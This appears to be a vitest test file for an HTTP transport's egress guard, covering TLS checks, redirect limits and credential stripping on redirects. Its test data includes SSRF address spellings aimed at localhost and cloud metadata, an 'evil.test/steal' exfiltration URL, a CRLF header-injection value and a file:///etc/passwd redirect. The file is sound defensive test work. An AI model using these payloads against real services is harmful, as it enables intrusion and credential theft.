import type { RequestListener } from 'node:http';
import { expect, test } from 'vitest';
import type { WireRequest } from '../wire/request.ts';
import { type Certificate, makeCertificate } from './testing/certificate.ts';
import { bodyOf, serve, serveTls } from './testing/servers.ts';
import {
  createTransport,
  defaultLimits,
  type SendOptions,
  type Transport,
  type TransportSettings,
} from './transport.ts';

const limits = { ...defaultLimits, timeoutMs: 15_000 };

/** A transport that a test closes by leaving its block. */
function opened(settings: Partial<TransportSettings> = {}) {
  const transport = createTransport({ allowPrivate: [], ...settings });
  return Object.assign(transport, { [Symbol.asyncDispose]: transport.close });
}

/** Sends to a URL whose own host is allowed, so that only the egress guard can refuse. */
function get(transport: Transport, url: string, more: Partial<SendOptions & WireRequest> = {}) {
  const { method = 'GET', headers = {}, body, ...options } = more;
  const { hostname, port, protocol } = new URL(url);
  const allow = [`${hostname}:${port || (protocol === 'https:' ? 443 : 80)}`];
  const request = { method, url, headers, ...(body !== undefined && { body }) };
  return transport(request, { allow, limits, redirect: 'follow', ...options });
}

/** A resolver that knows a table, and nothing else. */
function table(names: Readonly<Record<string, readonly string[]>>) {
  return async (name: string) => names[name] ?? [];
}

const ok: RequestListener = (_, response) => response.end('ok');

const privateSpellings = [
  'http://127.0.0.1',
  'http://127.1',
  'http://2130706433',
  'http://0x7f000001',
  'http://0x7f.0.0.1',
  'http://0177.0.0.1',
  'http://017700000001',
  'http://127.0.0.1.',
  'http://127。0。0。1',
  'http://①②⑦.⓪.⓪.①',
  'http://%31%32%37.0.0.1',
  'http://0.0.0.0',
  'http://0',
  'http://[::1]',
  'http://[0:0:0:0:0:0:0:1]',
  'http://[::]',
  'http://[::ffff:127.0.0.1]',
  'http://[::ffff:7f00:1]',
  'http://[::127.0.0.1]',
  'http://[64:ff9b::7f00:1]',
  'http://[2002:7f00:1::]',
  'http://localhost',
  'http://LOCALHOST.',
  'http://x.localhost',
  'http://169.254.169.254',
  'http://[fd00:ec2::254]',
  'http://10.0.0.1',
  'http://192.168.0.1',
  'http://100.100.100.200',
  'http://internal.test',
  'http://mapped.test',
] as const;

test.each(privateSpellings)(
  'attack 16, F-131: %s is refused, and nothing is connected to',
  async (spelling) => {
    await using server = await serve(ok);
    const names = { 'internal.test': ['127.0.0.1', '::1'], 'mapped.test': ['::ffff:127.0.0.1'] };
    await using transport = opened({ lookup: table(names) });
    const url = `${spelling}:${server.port}/latest/meta-data?key=s3cret`;
    const answer = await get(transport, url);
    expect(answer).toMatchObject({ ok: false, problem: { code: 'private_host', stage: 'request' } });
    expect(JSON.stringify(answer)).not.toMatch(/s3cret|meta-data/);
    expect(server.connections()).toBe(0);
  },
);

test.each([
  ['a host and port', (port: number) => `http://localhost:${port}`, (port: number) => `localhost:${port}`],
  ['a host', (port: number) => `http://localhost:${port}`, () => 'localhost'],
  ['an address', (port: number) => `http://127.0.0.1:${port}`, () => '127.0.0.1'],
  ['a range', (port: number) => `http://2130706433:${port}`, () => '127.0.0.0/8'],
  ['a range, by name', (port: number) => `http://internal.test:${port}`, () => '127.0.0.0/8'],
  ['a name', (port: number) => `http://internal.test:${port}`, () => 'internal.test'],
])('a private host is reached when the setting names %s', async (_, urlOf, ruleOf) => {
  await using server = await serve(ok);
  const lookup = table({ 'internal.test': ['127.0.0.1'] });
  await using transport = opened({ allowPrivate: [ruleOf(server.port)], lookup });
  expect(await get(transport, urlOf(server.port))).toMatchObject({ ok: true, value: { status: 200 } });
});

test('a rule with a port opens no other port, with a socket to the first one open', async () => {
  await using allowed = await serve(ok);
  await using other = await serve(ok);
  await using transport = opened({ allowPrivate: [`127.0.0.1:${allowed.port}`] });
  expect((await get(transport, allowed.origin)).ok).toBe(true);
  expect(await get(transport, other.origin)).toMatchObject({ problem: { code: 'private_host' } });
  expect(other.connections()).toBe(0);
});

test('attack 16: a name that resolves elsewhere the second time gains nothing', async () => {
  let answers = 0;
  let requests = 0;
  await using server = await serve((_, response) => {
    requests += 1;
    response.setHeader('Connection', 'close').end();
  });
  // The open address stands for a public one, which a test cannot have; the other one is as private.
  const lookup = async () => [answers++ === 0 ? '127.0.0.1' : '127.0.0.2'];
  await using transport = opened({ allowPrivate: ['127.0.0.1/32'], lookup });
  const url = `http://rebind.test:${server.port}/`;
  expect((await get(transport, url)).ok).toBe(true);
  expect(answers).toBe(1);
  expect(await get(transport, url)).toMatchObject({ problem: { code: 'private_host' } });
  expect({ answers, requests }).toEqual({ answers: 2, requests: 1 });
});

test('attack 16: of several addresses only the open one is connected to', async () => {
  await using server = await serve(ok);
  const lookup = table({ 'mixed.test': ['::1', '127.0.0.2', '127.0.0.1', '10.0.0.1'] });
  await using transport = opened({ allowPrivate: ['127.0.0.1/32'], lookup });
  expect(await get(transport, `http://mixed.test:${server.port}/`)).toMatchObject({ ok: true });
});

test('F-138 a host that the definition does not name is not even looked up', async () => {
  const asked: string[] = [];
  const lookup = async (name: string) => {
    asked.push(name);
    return [];
  };
  await using transport = opened({ lookup });
  const answer = await get(transport, 'https://evil.test/steal?key=s3cret', {
    allow: ['acme.com', '*.acme.com'],
  });
  const params = { host: 'evil.test' };
  expect(answer).toEqual({ ok: false, problem: { code: 'host_not_allowed', stage: 'request', params } });
  expect(asked).toEqual([]);
});

test('a name that does not exist is a host that cannot be reached', async () => {
  await using transport = opened({ lookup: table({}) });
  expect(await get(transport, 'https://nowhere.test/')).toMatchObject({
    problem: {
      code: 'connection_refused',
      params: { host: 'nowhere.test', reason: 'the name does not exist' },
    },
  });
});

test.each([
  ['to a host that is not allowed', 'http://evil.test/', 'host_not_allowed', 'evil.test'],
  ['to a private address', 'http://169.254.169.254/latest', 'private_host', '169.254.169.254'],
  ['to a private address in disguise', 'http://0x7f.1:1/', 'private_host', '127.0.0.1:1'],
  ['to a private name', 'http://internal.test/', 'private_host', 'internal.test'],
  ['to a file', 'file:///etc/passwd', 'redirect_refused', ''],
])('attack 16: a redirect %s is refused and named', async (_, location, code, host) => {
  await using server = await serve((_, response) => response.writeHead(302, { location }).end());
  const allowPrivate = [`127.0.0.1:${server.port}`];
  await using transport = opened({ allowPrivate, lookup: table({ 'internal.test': ['10.0.0.1'] }) });
  const allow = [`127.0.0.1:${server.port}`, '169.254.169.254:80', '127.0.0.1:1', 'internal.test:80'];
  expect(await get(transport, server.origin, { allow })).toMatchObject({
    problem: { code, params: { host } },
  });
});

test('attack 19: over the wire, another host gets no credential and the same host gets all', async () => {
  const seen: unknown[] = [];
  const record: RequestListener = async (request, response) => {
    const { method, url, headers } = request;
    seen.push({
      method,
      url,
      auth: headers.authorization,
      key: headers['x-api-key'],
      body: await bodyOf(request),
    });
    response.end();
  };
  await using other = await serve(record);
  await using first = await serve(async (request, response) => {
    const location = request.url === '/same' ? '/back' : `${other.origin}/x?k=s3cret&a=1`;
    if (request.url === '/back') await record(request, response);
    else response.writeHead(request.url === '/keep' ? 307 : 302, { location }).end();
  });
  await using transport = opened({ allowPrivate: ['127.0.0.1'] });
  const allow = [`127.0.0.1:${first.port}`, `127.0.0.1:${other.port}`];
  const headers = { Authorization: 'Bearer s3cret', 'X-Api-Key': 's3cret' };
  const more = { allow, headers, secrets: ['s3cret'] };
  await get(transport, `${first.origin}/same`, more);
  await get(transport, `${first.origin}/other`, { ...more, method: 'POST', body: 's3cret' });
  expect(seen).toEqual([
    { method: 'GET', url: '/back', auth: 'Bearer s3cret', key: 's3cret', body: '' },
    { method: 'GET', url: '/x?a=1', auth: undefined, key: undefined, body: '' },
  ]);
  const kept = await get(transport, `${first.origin}/keep`, {
    ...more,
    method: 'POST',
    body: '{"k":"s3cret"}',
  });
  expect(kept).toMatchObject({ problem: { code: 'redirect_refused' } });
  expect(seen).toHaveLength(2);
});

test('LIM-5 twenty redirects are followed, twenty-one are not; every hop is told of', async () => {
  await using server = await serve((request, response) => {
    const left = Number(request.url?.slice(1));
    if (left === 0) response.end('there');
    else response.writeHead(302, { location: `/${left - 1}` }).end();
  });
  await using transport = opened({ allowPrivate: ['127.0.0.1'] });
  const hops: (number | undefined)[] = [];
  const onExchange: SendOptions['onExchange'] = (exchange) => hops.push(exchange.response?.status);
  expect(await get(transport, `${server.origin}/20`, { onExchange })).toMatchObject({
    ok: true,
    value: { url: `${server.origin}/0` },
  });
  expect(hops).toEqual([...Array(20).fill(302), 200]);
  const tooMany = await get(transport, `${server.origin}/21`);
  expect(tooMany).toMatchObject({ problem: { code: 'redirect_refused' } });
  expect(server.connections()).toBe(1);
});

test('LIM-1 redirects do not extend the time', async () => {
  await using server = await serve((request, response) => {
    if (request.url === '/') response.writeHead(302, { location: '/slow' }).end();
  });
  await using transport = opened({ allowPrivate: ['127.0.0.1'] });
  const answer = await get(transport, server.origin, { limits: { ...limits, timeoutMs: 60 } });
  expect(answer).toMatchObject({ problem: { code: 'timeout', params: { seconds: '0.06' } } });
});

test('an exchange is told of as it was sent, with its time, or with its problem', async () => {
  await using server = await serve(ok);
  let at = 1_000;
  const clock = { now: () => 1_700_000_000_000, elapsedMs: () => (at += 7) };
  await using transport = opened({ allowPrivate: ['127.0.0.1'], clock });
  const told: unknown[] = [];
  const onExchange: SendOptions['onExchange'] = (exchange) => told.push(exchange);
  const headers = { Connection: 'close', 'X-A': 'b' };
  await get(transport, `${server.origin}/#part`, { method: 'get', headers, onExchange });
  await get(transport, server.origin, { allow: [], onExchange });
  const times = { startedAt: 1_700_000_000_000, durationMs: 7 };
  const sent = { method: 'GET', url: `${server.origin}/`, headers: { 'X-A': 'b' } };
  expect(told).toMatchObject([
    { request: sent, response: { status: 200 }, ...times },
    { request: { url: `${server.origin}/` }, problem: { code: 'host_not_allowed' }, ...times },
  ]);
  expect(told[0]).toHaveProperty('request.headers', { 'X-A': 'b' });
});

test('attack 20: a request that cannot be sent is a problem, and is told of', async () => {
  await using transport = opened();
  const told: unknown[] = [];
  const onExchange: SendOptions['onExchange'] = (exchange) => told.push(exchange.problem?.code);
  const headers = { 'X-Key': 'a\r\nHost: evil.test' };
  const answer = await get(transport, 'https://acme.com/', { headers, onExchange });
  expect(answer).toMatchObject({ problem: { code: 'field_invalid' } });
  expect(told).toEqual(['field_invalid']);
});

test('closing waits for what is under way, and then sends nothing more', async () => {
  const arrived = Promise.withResolvers<void>();
  const answerNow = Promise.withResolvers<void>();
  await using server = await serve(async (_, response) => {
    arrived.resolve();
    await answerNow.promise;
    response.end('late');
  });
  const transport = createTransport({ allowPrivate: ['127.0.0.1'] });
  const answer = get(transport, server.origin);
  await arrived.promise;
  const closed = transport.close();
  answerNow.resolve();
  expect(await answer).toMatchObject({ ok: true, value: { status: 200 } });
  await closed;
  await server.idle();
  expect(await get(transport, server.origin)).toMatchObject({ problem: { code: 'connection_refused' } });
});

test('a setting that cannot be read is a bug of the caller', () => {
  expect(() => createTransport({ allowPrivate: ['http://localhost'] })).toThrow(RangeError);
});

const year = new Date().getUTCFullYear();
const valid = makeCertificate(['secure.test'], new Date(Date.UTC(year + 2, 0)));
const expired = makeCertificate(['secure.test'], new Date(Date.UTC(2021, 0)));

async function overTls(certificate: Certificate, trusted: readonly Certificate[], name = 'secure.test') {
  let requests = 0;
  await using server = await serveTls(certificate, (_, response) => {
    requests += 1;
    response.end('secure');
  });
  const lookup = table({ [name]: ['127.0.0.1'] });
  await using transport = opened({ allowPrivate: [name], lookup, ca: trusted.map(({ cert }) => cert) });
  const answer = await get(transport, `https://${name}:${server.port}/`, {
    headers: { Authorization: 'Bearer x' },
  });
  return { ...(answer.ok ? { status: answer.value.status } : answer.problem), requests };
}

test('a certificate that is trusted and fits is accepted', async () => {
  expect(await overTls(valid, [valid])).toEqual({ status: 200, requests: 1 });
});

test.each([
  ['nobody trusts', valid, [], 'secure.test', 'The certificate is signed by itself.'],
  ['has expired', expired, [expired], 'secure.test', 'The certificate has expired.'],
  ['is for another host', valid, [valid], 'other.test', 'The certificate is for another host.'],
])('a certificate that %s gets no request', async (_, certificate, trusted, name, reason) => {
  const refused = { code: 'tls_error', params: { reason }, requests: 0 };
  expect(await overTls(certificate, trusted, name)).toMatchObject(refused);
});

test('plain HTTP behind https: is a TLS error', async () => {
  await using server = await serve(ok);
  await using transport = opened({ allowPrivate: ['127.0.0.1'] });
  const answer = await get(transport, server.origin.replace('http:', 'https:'));
  expect(answer).toMatchObject({ problem: { code: 'tls_error' } });
});
